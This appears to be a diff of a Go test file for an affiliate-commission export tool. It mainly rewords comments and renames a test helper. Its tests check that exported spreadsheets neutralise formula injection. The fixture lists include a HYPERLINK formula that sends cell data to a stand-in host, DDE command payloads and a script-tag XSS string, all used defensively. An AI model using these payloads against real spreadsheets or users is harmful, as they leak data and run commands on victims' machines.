@@ -15,7 +15,7 @@ import (
 	"rebatedesk/store/records"
 )
 
-// Programs of others read these names.
+// API clients read these names.
 var headers = map[reports.ExportKind]string{
 	reports.ExportCommissions:   "deal_time_utc,deal_time_ms,account,uid,invite_code,product_type,symbol,source_type,coin,taker_amount,maker_amount,fee,rate,commission,first_seen_utc",
 	reports.ExportInvitees:      "account,uid,invite_code,register_time_utc,kyc,first_deposit_utc,first_trade_utc,last_deposit_utc,last_trade_utc,first_seen_utc,last_seen_utc,state,days_silent,usual_gap_days,lifetime_commission,coin,at_risk,name,tags",
@@ -23,10 +23,10 @@ var headers = map[reports.ExportKind]string{
 	reports.ExportDaily:         "date,account,product_type,coin,source_type,records,fee,commission,taker_amount,maker_amount",
 }
 
-// everyKind fills a desk with one row of each kind, with unknown values where
-// there can be any.
-func everyKind(t *testing.T) *desk {
-	d := newDesk(t, "UTC")
+// everyKind stores one row of each kind, with an unknown value in each column that allows
+// it.
+func everyKind(t *testing.T) *fixture {
+	d := newFixture(t, "UTC")
 	c := trade(today, spot, 1, "-0.0682571")
 	c.Source, c.Rate, c.MakerAmount, c.TakerAmount = affiliate.SubAgent, "", "-0.00", "98765432109876543210.000000000000000003"
 	d.read("main", spot, days(0, 0), c)
@@ -41,7 +41,7 @@ func everyKind(t *testing.T) *desk {
 	return d
 }
 
-// Each kind byte by byte, with numbers as they were received.
+// Each kind is compared byte by byte, with numbers as the exchange sent them.
 func TestFormats(t *testing.T) {
 	d := everyKind(t)
 	rows := map[reports.ExportKind][2]string{
@@ -59,7 +59,7 @@ func TestFormats(t *testing.T) {
 			`{"date":"2026-09-15","account":"main","product_type":"SPOT","coin":"USDT","source_type":"sub","records":1,"fee":"1","commission":"-0.0682571","taker_amount":"98765432109876543210.000000000000000003","maker_amount":"0"}`},
 	}
 	if kinds := reports.ExportKinds(); len(kinds) != len(rows) {
-		t.Errorf("there are the kinds %v", kinds)
+		t.Errorf("the kinds are %v", kinds)
 	}
 	for kind, row := range rows {
 		for format, want := range map[export.Format]string{
@@ -78,7 +78,7 @@ func TestFormats(t *testing.T) {
 	}
 }
 
-// betweenRows is what a JSON export has between the brackets of its rows.
+// betweenRows returns the text between the brackets of the rows of a JSON export.
 func betweenRows(t *testing.T, text string) string {
 	t.Helper()
 	_, rows, begun := strings.Cut(text, `"rows":[`)
@@ -89,7 +89,7 @@ func betweenRows(t *testing.T, text string) string {
 	return strings.TrimSpace(rows)
 }
 
-// The object around the rows, byte by byte.
+// The object around the rows is compared byte by byte.
 func TestJSONFacts(t *testing.T) {
 	d := everyKind(t)
 	d.read("main", futures, days(0, 0))
@@ -110,7 +110,7 @@ func TestJSONFacts(t *testing.T) {
 }
 
 func TestEmptyExports(t *testing.T) {
-	d := newDesk(t, "UTC")
+	d := newFixture(t, "UTC")
 	for _, kind := range reports.ExportKinds() {
 		for format, want := range map[export.Format]string{export.CSV: headers[kind] + "\r\n", export.JSON: "", export.JSONL: "", export.XLSX: headers[kind]} {
 			text, summary := d.export(kind, format, d.ask("range=all"))
@@ -131,20 +131,20 @@ func TestEmptyExports(t *testing.T) {
 	}
 }
 
-// formulas are texts that some spreadsheet runs.
+// formulas lists texts that some spreadsheet executes.
 var formulas = []string{
 	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
 	"＝1+1", "＋1", "－1", "＠SUM(1)", "=", "-", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b+1",
 }
 
-// hidden are formulas behind what some take for the border of a cell, and how
-// they are written.
+// hidden maps formulas after a character that some spreadsheets take for the border of a
+// cell to their written form.
 var hidden = map[string]string{
 	"x;=1+1;y": "x;'=1+1;y", "x\t@SUM(1)": "x\t'@SUM(1)", "a| -1": "a|' -1", "a\n=1": "a\n'=1", ";=1": ";'=1", "=1;=2": "'=1;'=2",
 }
 
 func TestHiddenFormulas(t *testing.T) {
-	d := newDesk(t, "UTC")
+	d := newFixture(t, "UTC")
 	var records []affiliate.Commission
 	for text := range hidden {
 		c := trade(today, spot, len(records), "1")
@@ -168,16 +168,15 @@ func TestHiddenFormulas(t *testing.T) {
 	}
 }
 
-// harmless are texts that are written as they are.
+// harmless lists texts that are written unchanged.
 var harmless = []string{
 	"", "spring", "a=b", "a-b", "1+1", "'quoted'", `say "hi"`, `"`, `""`, "a,b", ",", "a\nb", "a\r\nb", "a\rb", " padded ", "日本語", "🦜",
 	"\u202eabc", "</script><script>alert(1)</script>", "<b>&amp;", "\u2028", `\`, `\.`, "null", "0012",
 }
 
-// Text is written so that it comes back as it was, but for a mark before what a
-// spreadsheet would run.
+// Text is read back unchanged, except for a mark in front of a formula.
 func TestTextSurvives(t *testing.T) {
-	d := newDesk(t, "UTC")
+	d := newFixture(t, "UTC")
 	texts := slices.Concat(formulas, harmless)
 	var records []affiliate.Commission
 	for i, text := range texts {
@@ -197,7 +196,7 @@ func TestTextSurvives(t *testing.T) {
 		t.Fatalf("%d lines, %v", len(lines), err)
 	}
 	for i, line := range lines[1:] {
-		want := strings.ReplaceAll(texts[i], "\r\n", "\n") // as every reader of CSV in Go has it
+		want := strings.ReplaceAll(texts[i], "\r\n", "\n") // as the CSV reader of Go returns it
 		if i < len(formulas) {
 			want = "'" + want
 		}
@@ -221,10 +220,10 @@ func TestTextSurvives(t *testing.T) {
 	}
 	lined, _ := d.export(reports.ExportCommissions, export.JSONL, q)
 	if n := strings.Count(lined, "\n"); n != len(texts) {
-		t.Errorf("%d lines of %d objects", n, len(texts))
+		t.Errorf("%d lines with %d objects", n, len(texts))
 	}
 	if strings.Contains(text, "</script>") {
-		t.Error("the end of a script can be read in JSON")
+		t.Error("the JSON contains the end tag of a script")
 	}
 	for i, o := range objects {
 		if texts[i] == "" && o.Symbol != nil || texts[i] != "" && (o.Symbol == nil || *o.Symbol != texts[i]) || o.Commission != "-1.5" {
@@ -233,9 +232,9 @@ func TestTextSurvives(t *testing.T) {
 	}
 }
 
-// The guard stands on every column of text that comes from outside.
+// Every column with text from outside is guarded.
 func TestFormulasInEveryTextColumn(t *testing.T) {
-	d := newDesk(t, "UTC")
+	d := newFixture(t, "UTC")
 	const evil = "=1+1"
 	c := trade(today, spot, 1, "1")
 	c.UID, c.Symbol, c.Source, c.Coin = evil, evil, evil, evil
@@ -270,7 +269,7 @@ func TestContentTypes(t *testing.T) {
 	}
 }
 
-// closedPipe takes so much and then fails.
+// closedPipe accepts the given number of bytes and then fails.
 type closedPipe struct{ left int }
 
 var errPipe = errors.New("nobody reads on")
@@ -282,9 +281,9 @@ func (p *closedPipe) Write(b []byte) (int, error) {
 	return len(b), nil
 }
 
-// What cannot be written is an error at once, however it is buffered.
+// A failed write ends an export with its error, with any buffering.
 func TestExportIntoABrokenPipe(t *testing.T) {
-	d := newDesk(t, "UTC")
+	d := newFixture(t, "UTC")
 	var records []affiliate.Commission
 	for i := range 2000 {
 		records = append(records, trade(today, spot, i, "1"))
